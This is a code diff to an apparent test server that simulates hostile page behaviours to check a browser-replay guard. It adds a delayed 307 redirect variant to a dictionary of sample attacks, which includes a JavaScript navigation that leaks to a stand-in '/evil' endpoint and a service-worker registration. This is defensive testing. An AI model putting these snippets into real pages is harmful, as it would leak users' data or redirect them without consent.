@@ -8,6 +8,7 @@ click does besides the recorded ``POST /save`` (see :data:`ATTACKS`); ``"base"``
 from __future__ import annotations
 
 import threading
+import time
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import urlsplit
@@ -37,6 +38,7 @@ ATTACKS = {
     "navigate-other-origin": "setTimeout(() => { location.href = '{other}/evil?leak=1'; }, 50);",
     "service-worker": "navigator.serviceWorker.register('/sw.js');",
     "redirect": "",  # the server answers POST /save with a 307 to /evil (the body is posted again)
+    "slow-redirect": "",  # the same 307, 3 s late: the guard is still fetching it when the replay ends
     "timer": "",  # the page posts to /evil 1.5 s after it loads (a plan that starts by waiting)
 }
 
@@ -133,7 +135,9 @@ class _Handler(BaseHTTPRequestHandler):
 
     def do_POST(self) -> None:
         self._log()
-        if self.path == "/save" and self.site.variant == "redirect":
+        if self.path == "/save" and self.site.variant in ("redirect", "slow-redirect"):
+            if self.site.variant == "slow-redirect":
+                time.sleep(3)
             return self._send(307, "", Location="/evil")
         self._send(200, "ok", "text/plain")
 
